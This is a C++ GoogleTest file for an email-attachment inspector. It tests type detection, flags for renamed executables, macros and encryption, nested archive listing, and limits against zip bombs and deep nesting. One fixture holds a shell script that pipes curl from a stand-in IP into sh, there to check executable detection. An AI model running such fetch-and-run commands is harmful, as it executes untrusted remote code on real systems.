// attach::inspect on content built here: true types, the flags, archive members at
// every depth, and the limits that make hostile archives end quickly.
#include "attach/inspect.h"

#include <gtest/gtest.h>

#include <chrono>

#include "tests/attach/fixtures.h"

namespace mp::attach {
namespace {

using testing::Entry;
using testing::Format;
using testing::make_archive;
using testing::zip;

bool has(const Report& r, Flag f) {
  return r.has(f);
}

std::vector<std::string> flag_names(const Report& r) {
  std::vector<std::string> names;
  for (size_t i = 0; i < kFlagCount; ++i) {
    if (r.flags.test(i)) names.emplace_back(flag_name(static_cast<Flag>(i)));
  }
  return names;
}

using Names = std::vector<std::string>;

TEST(Inspect, PlainDocumentsHaveTheirTypeAndNoFlag) {
  Report pdf = inspect(testing::pdf_document(), "invoice.pdf");
  EXPECT_EQ(pdf.type, "application/pdf");
  EXPECT_EQ(flag_names(pdf), Names{});
  EXPECT_TRUE(pdf.members.empty());
  Report text = inspect("Dear customer,\nplease find the figures below.\n", "notes.txt");
  EXPECT_EQ(text.type, "text/plain");
  EXPECT_EQ(flag_names(text), Names{});
}

TEST(Inspect, RenamedExecutableIsExecutableAndAMismatch) {
  Report r = inspect(testing::pe_executable(), "Invoice.PDF");
  EXPECT_EQ(r.type, "application/vnd.microsoft.portable-executable");
  EXPECT_EQ(flag_names(r), (Names{"type_mismatch", "executable"}));
  Report elf = inspect(testing::elf_executable(), "photo.jpg");
  EXPECT_EQ(elf.type, "application/x-executable");
  EXPECT_TRUE(has(elf, Flag::Executable));
  EXPECT_TRUE(has(elf, Flag::TypeMismatch));
}

TEST(Inspect, ShebangScriptIsExecutable) {
  Report r = inspect("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n", "readme");
  EXPECT_EQ(r.type, "text/x-shellscript");
  EXPECT_EQ(flag_names(r), Names{"executable"});
}

TEST(Inspect, NearMissesAreNoMismatch) {
  // C source sent as .txt, an empty .pdf, an extension the table does not know.
  EXPECT_FALSE(
      has(inspect("#include <stdio.h>\nint main(void) { return 0; }\n", "main.txt"), Flag::TypeMismatch));
  EXPECT_FALSE(has(inspect("", "empty.pdf"), Flag::TypeMismatch));
  EXPECT_FALSE(has(inspect(testing::pdf_document(), "scan.unknownext"), Flag::TypeMismatch));
  // A PDF claimed as a picture is a mismatch.
  EXPECT_TRUE(has(inspect(testing::pdf_document(), "photo.png"), Flag::TypeMismatch));
}

TEST(Inspect, ZipMembersWithNameExtensionTypeSizeDepth) {
  std::string pe = testing::pe_executable();
  Report r = inspect(zip({{"readme.txt", "hello there\n"}, {"payload/Run.EXE", pe}}), "invoice.zip");
  EXPECT_EQ(r.type, "application/zip");
  ASSERT_EQ(r.members.size(), 2u);
  EXPECT_EQ(r.members[0].name, "readme.txt");
  EXPECT_EQ(r.members[0].type, "text/plain");
  EXPECT_EQ(r.members[0].size, 12u);
  EXPECT_EQ(r.members[1].name, "payload/Run.EXE");
  EXPECT_EQ(r.members[1].extension, "exe");
  EXPECT_EQ(r.members[1].type, "application/vnd.microsoft.portable-executable");
  EXPECT_EQ(r.members[1].size, pe.size());
  EXPECT_EQ(r.members[1].depth, 1u);
  EXPECT_EQ(r.members[1].path, "payload/Run.EXE");
  EXPECT_EQ(flag_names(r), Names{"contains_executable"});
}

TEST(Inspect, NestedArchivesAreListedWithTheirPath) {
  std::string inner = make_archive(Format::SevenZip, {{"run.exe", testing::pe_executable()}});
  std::string middle = make_archive(Format::TarGz, {{"docs/inner.7z", inner}});
  Report r = inspect(zip({{"middle.tar.gz", middle}}), "outer.zip");
  ASSERT_EQ(r.members.size(), 3u);
  EXPECT_EQ(r.members[0].type, "application/gzip");
  EXPECT_EQ(r.members[1].name, "docs/inner.7z");
  EXPECT_EQ(r.members[1].type, "application/x-7z-compressed");
  EXPECT_EQ(r.members[1].depth, 2u);
  EXPECT_EQ(r.members[2].name, "run.exe");
  EXPECT_EQ(r.members[2].depth, 3u);
  EXPECT_EQ(r.members[2].path, "middle.tar.gz → docs/inner.7z → run.exe");
  EXPECT_TRUE(has(r, Flag::ContainsExecutable));
}

TEST(Inspect, TarAndBareGzip) {
  Report tar = inspect(make_archive(Format::Tar, {{"a.pdf", testing::pdf_document()}}), "files.tar");
  EXPECT_EQ(tar.type, "application/x-tar");
  ASSERT_EQ(tar.members.size(), 1u);
  EXPECT_EQ(tar.members[0].type, "application/pdf");
  Report gz = inspect(make_archive(Format::Gzip, {{"data", testing::pdf_document()}}), "report.pdf.gz");
  EXPECT_EQ(gz.type, "application/gzip");
  ASSERT_EQ(gz.members.size(), 1u);
  EXPECT_EQ(gz.members[0].name, "report.pdf");
  EXPECT_EQ(gz.members[0].extension, "pdf");
  EXPECT_EQ(gz.members[0].type, "application/pdf");
  EXPECT_EQ(gz.members[0].size, testing::pdf_document().size());
  EXPECT_EQ(flag_names(gz), Names{});
}

TEST(Inspect, EncryptedZipIsFlaggedAndItsMembersListed) {
  for (const char* method : {"zip:encryption=zipcrypt", "zip:encryption=aes256"}) {
    SCOPED_TRACE(method);
    std::string bytes =
        make_archive(Format::Zip, {{"salary.xlsx", std::string(5000, 'x')}}, method, "secret");
    Report r = inspect(bytes, "salaries.zip");
    EXPECT_EQ(flag_names(r), Names{"encrypted"});
    ASSERT_EQ(r.members.size(), 1u);
    EXPECT_EQ(r.members[0].name, "salary.xlsx");
    EXPECT_EQ(r.members[0].type, "");  // its data cannot be read
    EXPECT_EQ(r.members[0].size, 5000u);
  }
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

TEST(Inspect, ZipBombStopsAtTheRatioQuickly) {
  std::string bomb = zip({{"zeros.bin", std::string(150u << 20, '\0')}});  // 150 MB into ~150 KB
  ASSERT_LT(bomb.size(), 2u << 20);
  auto start = std::chrono::steady_clock::now();
  Report r = inspect(bomb, "bomb.zip");
  EXPECT_LT(seconds_since(start), 1.0);
  EXPECT_EQ(flag_names(r), Names{"archive_limit"});
  ASSERT_EQ(r.members.size(), 1u);
  EXPECT_EQ(r.members[0].size, 150u << 20);  // as declared: not read to the end
}

TEST(Inspect, ByteBudgetStopsReading) {
  Limits limits;
  limits.max_bytes = 1 << 20;
  limits.max_ratio = 1000000;  // only the budget applies here
  std::string noise;
  for (uint32_t x = 1; noise.size() < (3u << 20); x = x * 1103515245u + 12345u)
    noise.push_back(static_cast<char>(x >> 24));
  Report r = inspect(zip({{"a.bin", noise}, {"b.bin", "after"}}), "big.zip", limits);
  EXPECT_TRUE(has(r, Flag::ArchiveLimit));
  EXPECT_EQ(r.members.size(), 1u);  // stopped inside the first member
}

TEST(Inspect, HundredNestedZipsStopAtTheDepthLimit) {
  std::string bytes = "the innermost file\n";
  std::string name = "core.txt";
  for (int level = 0; level < 100; ++level) {
    bytes = zip({{name, bytes}});
    name = "level" + std::to_string(level) + ".zip";
  }
  auto start = std::chrono::steady_clock::now();
  Report r = inspect(bytes, "matryoshka.zip");
  EXPECT_LT(seconds_since(start), 1.0);
  EXPECT_EQ(flag_names(r), Names{"archive_limit"});
  EXPECT_EQ(r.members.size(), Limits{}.max_depth);
  EXPECT_EQ(r.members.back().depth, Limits{}.max_depth);
}

TEST(Inspect, MemberCountLimit) {
  std::vector<Entry> entries;
  for (int i = 0; i < 1200; ++i) entries.push_back({"f" + std::to_string(i) + ".txt", "x"});
  Report r = inspect(zip(entries), "many.zip");
  EXPECT_EQ(r.members.size(), Limits{}.max_members);
  EXPECT_TRUE(has(r, Flag::ArchiveLimit));
}

TEST(Inspect, TruncatedZipKeepsWhatWasReadAndIsCorrupt) {
  std::string whole = make_archive(Format::Zip,
                                   {{"one.txt", std::string(3000, 'a')},
                                    {"two.pdf", testing::pdf_document()},
                                    {"three.bin", std::string(20000, 'c')}},
                                   "zip:compression=store");
  Report r = inspect(whole.substr(0, whole.size() / 2 + 2000), "cut.zip");
  EXPECT_EQ(r.type, "application/zip");
  EXPECT_TRUE(has(r, Flag::Corrupt));
  ASSERT_GE(r.members.size(), 2u);
  EXPECT_EQ(r.members[0].name, "one.txt");
  EXPECT_EQ(r.members[1].type, "application/pdf");
}

TEST(Inspect, DamagedDataIsCorrupt) {
  std::string words;
  for (int i = 0; words.size() < 20000; ++i) words += "word" + std::to_string(i * 7919 % 1000) + " ";
  std::string bytes = zip({{"words.txt", words}, {"after.txt", "still listed"}});
  for (size_t i = 200; i < 600; ++i) bytes[i] = static_cast<char>(i * 31);  // inside the deflate stream
  Report r = inspect(bytes, "x.zip");
  EXPECT_EQ(r.type, "application/zip");
  EXPECT_TRUE(has(r, Flag::Corrupt));
  ASSERT_EQ(r.members.size(), 2u);
  EXPECT_EQ(r.members[1].type, "text/plain");
}

TEST(Inspect, MacrosInOoxmlAndOle) {
  EXPECT_TRUE(has(inspect(testing::ooxml_document(true), "report.docm"), Flag::Macros));
  EXPECT_FALSE(has(inspect(testing::ooxml_document(false), "report.docx"), Flag::Macros));
  Report doc = inspect(testing::ole_document(true), "report.doc");
  EXPECT_TRUE(has(doc, Flag::Macros));
  EXPECT_FALSE(has(doc, Flag::TypeMismatch)) << doc.type;
  EXPECT_FALSE(has(inspect(testing::ole_document(false), "report.doc"), Flag::Macros));
  // A macro document inside an archive: the archive has macros.
  EXPECT_TRUE(has(inspect(zip({{"scan.doc", testing::ole_document(true)}}), "scan.zip"), Flag::Macros));
}

TEST(Inspect, PlainOfficeDocumentIsClean) {
  Report r = inspect(testing::ooxml_document(false), "report.docx");
  EXPECT_EQ(flag_names(r), Names{}) << r.type;
}

TEST(Inspect, FlagNamesAreTheVocabulary) {
  EXPECT_EQ(flag_name(Flag::Encrypted), "encrypted");
  EXPECT_EQ(flag_name(Flag::Corrupt), "corrupt");
  EXPECT_EQ(extension_of("dir.v2/archive.TAR.GZ"), "gz");
  EXPECT_EQ(extension_of("dir.v2/README"), "");
}

}  // namespace
}  // namespace mp::attach
